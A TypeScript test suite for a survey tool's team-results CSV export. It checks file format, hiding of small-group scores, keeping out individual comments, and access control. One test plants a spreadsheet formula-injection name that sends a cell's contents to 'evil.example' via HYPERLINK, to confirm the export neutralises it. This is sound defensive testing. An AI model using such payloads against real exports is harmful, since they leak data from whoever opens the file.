import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { selectUncheckedRows } from "@/tests/support/raw";
import { people } from "@/db/schema";
import { ASPECT_KEYS } from "@/lib/aspects";
import { PLAIN_NUMBER } from "@/lib/teams/csv";
import { asDisplayed } from "@/lib/teams/rows";
import { teamsTable } from "@/lib/teams/table";
import { applyView, DEFAULT_VIEW, parseView } from "@/lib/teams/view";
import { ForbiddenError } from "@/server/dal/errors";
import { exportTeams, loadTeamsPage } from "@/server/dal/teams";
import { loadViewer, type Viewer } from "@/server/internal/viewer";
import type { TestDatabase } from "../support/database";
import { createDemoDatabase, DEMO_CYCLES } from "../support/demo";

let database: TestDatabase;
const ids = new Map<string, string>();

beforeAll(async () => {
  database = await createDemoDatabase({ people: ids });
}, 120_000);
afterAll(() => database.dispose());

const viewerOf = async (name: string): Promise<Viewer> => (await loadViewer(database.db, ids.get(name)!))!;

async function latestClosed(viewer: Viewer) {
  const page = await loadTeamsPage(database.db, viewer);
  if (page.status !== "closed") expect.fail("expected a closed cycle");
  return page;
}

const parseCsv = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false }) as string[][];

// Columns: row, manager, reports to, responses, invited, rate; then b and n per aspect; then B, versatility, T, fit gap, change, its verdict.
const ASPECT_COLUMNS = ASPECT_KEYS.map((_, i) => 6 + 2 * i);
const COUNT_COLUMNS = ASPECT_COLUMNS.map((column) => column + 1);
const [B, VERSATILITY, TARGET, FIT_GAP, CHANGE] = [20, 21, 22, 23, 24];
const NUMBER_COLUMNS = [...ASPECT_COLUMNS, ...COUNT_COLUMNS, B, VERSATILITY, TARGET, FIT_GAP, CHANGE];

describe("the CSV export", () => {
  it("round-trips through a parser: RFC 4180, one row per team in the view, plus the organisation line", async () => {
    const marcus = await viewerOf("Marcus Bennett");
    const page = await latestClosed(marcus);
    const view = parseView({ sort: "fitGap", dir: "asc" });
    const { csv, filename } = await exportTeams(database.db, marcus, page.cycle.id, view);
    expect(filename).toBe(`fulcrum-teams-${DEMO_CYCLES.latestClosed.toLowerCase().replace(" ", "-")}.csv`);
    expect(csv.startsWith("\ufeff")).toBe(true);
    expect(csv).toContain("\r\n");
    const records = parseCsv(csv);
    // Writing the parsed records again gives the same bytes: nothing was lost or reinterpreted.
    expect(stringify(records, { record_delimiter: "windows", bom: true })).toBe(csv);
    const [header, org, ...teams] = records;
    expect(header![1]).toBe("Manager");
    expect(header!.at(-1)).toBe("Not shown, and why");
    expect(org![0]).toBe("organisation");
    expect(org![1]).toBe("All teams with enough answers, k or more (3 of 4): counts and scores cover these teams only");
    expect([header![B], header![CHANGE + 1]]).toEqual(["Overall balance (B)", "Change in B: clear of the noise?"]);
    // The organisation line counts only the teams it pools: Hannah Schmidt's 2 of 2 are left out.
    const included = page.teams.filter((team) => team.shown);
    expect(org!.slice(3, 5)).toEqual([String(included.reduce((n, team) => n + team.responded, 0)), String(included.reduce((n, team) => n + team.invited, 0))]);
    expect(org!.at(-1)).toContain("1 team left out below the threshold");
    expect(teams.map((row) => row[1])).toEqual(applyView(page.teams.map(asDisplayed), view).map((team) => team.name));
    for (const row of records) expect(row).toHaveLength(header!.length);
  });

  it("holds every page of the view: the page in the query is ignored, and the page shows the export's rows in its order", async () => {
    const vp = await viewerOf("Elena Marquez");
    const page = await latestClosed(vp);
    const names = async (query: Record<string, string>) =>
      parseCsv((await exportTeams(database.db, vp, page.cycle.id, parseView(query))).csv)
        .slice(2)
        .map((record) => record[1]);
    const everyTeam = await names({ sort: "balance" });
    expect(everyTeam).toHaveLength(page.teams.length);
    expect(await names({ sort: "balance", page: "3" })).toEqual(everyTeam);
    // Ten teams fill one page: a page past it is read as that one.
    const shown = teamsTable(page.teams, parseView({ sort: "balance", page: "3" }), vp.id);
    expect(shown.span).toMatchObject({ page: 1, pages: 1, total: 10 });
    expect(shown.rows.map((team) => team.name)).toEqual(everyTeam);
  });

  it("contains no suppressed value: every hidden cell is empty and explained", async () => {
    const marcus = await viewerOf("Marcus Bennett");
    const page = await latestClosed(marcus);
    const records = parseCsv((await exportTeams(database.db, marcus, page.cycle.id, DEFAULT_VIEW)).csv);
    for (const team of page.teams) {
      const row = records.find((record) => record[1] === team.name)!;
      team.aspects.forEach((cell, i) => {
        expect(row[ASPECT_COLUMNS[i]!] === "").toBe(cell === null);
        expect(row[COUNT_COLUMNS[i]!]).toBe(cell === null ? "" : String(cell.n));
      });
      expect(row[B] === "").toBe(team.balance === null);
      expect(row[VERSATILITY] === "").toBe(team.versatility === null);
      expect(row[FIT_GAP] === "").toBe(team.fitGap === null);
      if (team.aspects.some((cell) => cell === null) || !team.shown) expect(row.at(-1)).not.toBe("");
    }
    const hannah = records.find((record) => record[1] === "Hannah Schmidt")!;
    for (const column of NUMBER_COLUMNS.filter((column) => column !== TARGET)) expect(hannah[column]).toBe("");
    expect(hannah.at(-1)).toBe("Not shown: fewer than 3 people answered.");
    // Her counts are shown, as on the page; her target comes from her situation, not from answers.
    expect(hannah.slice(3, 6)).toEqual(["2", "2", "100%"]);
  });

  it("never holds an individual answer: no cell repeats what one response said", async () => {
    const marcus = await viewerOf("Marcus Bennett");
    const page = await latestClosed(marcus);
    const csv = (await exportTeams(database.db, marcus, page.cycle.id, DEFAULT_VIEW)).csv;
    const comments = await selectUncheckedRows<{ comment: string }>(
      database.db,
      sql`SELECT DISTINCT comment FROM responses WHERE cycle_id = ${page.cycle.id} AND comment IS NOT NULL`,
    );
    for (const { comment } of comments) expect(csv).not.toContain(comment);
    // Every number is a rounded aggregate of the page: the same cells as its rows, nothing more.
    for (const row of parseCsv(csv).slice(1)) for (const column of NUMBER_COLUMNS) expect(row[column] === "" || PLAIN_NUMBER.test(row[column]!)).toBe(true);
  });

  it("neutralises a name that a spreadsheet would run as a formula", async () => {
    const { db } = database;
    const sofia = ids.get("Sofia Rossi")!;
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click, please")';
    await db.update(people).set({ name: evil }).where(eq(people.id, sofia));
    await db
      .update(people)
      .set({ name: "@SUM(1+1)" })
      .where(eq(people.id, ids.get("Liam O'Brien")!));
    await db
      .update(people)
      .set({ name: "-2+3" })
      .where(eq(people.id, ids.get("Daniel Okafor")!));
    try {
      const marcus = await viewerOf("Marcus Bennett");
      const page = await latestClosed(marcus);
      const { csv } = await exportTeams(database.db, marcus, page.cycle.id, DEFAULT_VIEW);
      const records = parseCsv(csv);
      const names = records.slice(2).map((row) => row[1]);
      expect(names).toContain(`'${evil}`);
      expect(names).toContain("'@SUM(1+1)");
      expect(names).toContain("'-2+3");
      // No cell anywhere starts a formula unless it is a plain number written by the export.
      for (const row of records) for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(PLAIN_NUMBER);
    } finally {
      await db.update(people).set({ name: "Sofia Rossi" }).where(eq(people.id, sofia));
      await db
        .update(people)
        .set({ name: "Liam O'Brien" })
        .where(eq(people.id, ids.get("Liam O'Brien")!));
      await db
        .update(people)
        .set({ name: "Daniel Okafor" })
        .where(eq(people.id, ids.get("Daniel Okafor")!));
    }
  });

  it("exports the view: a sub-team filter and a search leave the other teams out", async () => {
    const elena = await viewerOf("Elena Marquez");
    const page = await latestClosed(elena);
    const view = parseView({ sub: ids.get("Aiko Tanaka"), q: "a" });
    const names = parseCsv((await exportTeams(database.db, elena, page.cycle.id, view)).csv)
      .slice(2)
      .map((row) => row[1]);
    expect(names.length).toBeGreaterThan(0);
    expect(names.every((name) => ["Aiko Tanaka", "Rahul Mehta", "Grace Kim", "Tomás Alvarez", "Fatima Haddad"].includes(name!))).toBe(true);
  });

  it("is refused for a cycle the viewer has no teams in, and for an open cycle", async () => {
    const daniel = await viewerOf("Daniel Okafor");
    const marcus = await viewerOf("Marcus Bennett");
    const page = await latestClosed(marcus);
    await expect(exportTeams(database.db, daniel, page.cycle.id, DEFAULT_VIEW)).rejects.toBeInstanceOf(ForbiddenError);
    const open = page.cycles.find((cycle) => cycle.state === "open")!;
    await expect(exportTeams(database.db, marcus, open.id, DEFAULT_VIEW)).rejects.toBeInstanceOf(ForbiddenError);
  });
});
